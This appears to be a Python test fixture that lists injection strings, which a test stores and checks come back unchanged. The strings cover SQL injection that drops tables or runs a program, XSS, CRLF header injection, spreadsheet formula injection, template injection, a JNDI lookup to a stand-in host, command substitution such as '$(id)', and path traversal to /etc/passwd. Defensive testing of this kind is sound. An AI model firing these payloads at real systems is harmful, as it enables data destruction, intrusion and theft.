"""Texts that have harmed other programs: they are stored and come back as they are, and nothing else happens."""

SQL = [
    "'; drop table tickets; --", "1' or '1'='1", "' union select null, null --", "\\'; select pg_sleep(9); --", "$1",
    "%s", "%(x)s", "{}", "$$; drop table products; $$", "admin'/*", '"; delete from articles; --',

    "1; copy x to program 'id'",
    "') on conflict do nothing; --", "E'\\\\x27'", "\\x27", "%", "_", "%%%", "a\\", "||'", "@> '{}'", "? ?| ?&",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "javascript:alert(1)",
    "<a href='//evil.example'>x</a>", "&lt;b&gt;", "&amp;amp;", "<!--", "]]>", "</textarea><b>", "<style>*{}</style>",
    "' onmouseover='alert(1)", "<iframe srcdoc=x>", "\u003cscript\u003e", "<ScRiPt >x</sCrIpT>",
]  # fmt: skip
LINES = [
    "x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "x\nX-Header: y", "a\rb", "tab\there", "x\u2028y", "x\u2029y",

    "\x7f", "\x1b[31mred",
    "%0d%0aSet-Cookie:a=b", "\ufeffbom", "a\u202eb",
]  # fmt: skip
FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1:A9)", '=HYPERLINK("//evil.example")', "\t=1+1"]
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "{% raw %}", "<%= 7*7 %>", "{0.__class__}", "%n%n%n", "${jndi:ldap://evil.example}",
    "`id`", "$(id)", "; ls", "| id", "../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "null", "undefined", "NaN",
    "true", "[]", '{"a": 1}', "\\u0000", "😀", "é", "e\u0301", "\u200b", "İ", "ﬀ", "Ω",
]  # fmt: skip
PAYLOADS = [*SQL, *HTML, *LINES, *FORMULAS, *TEMPLATES]
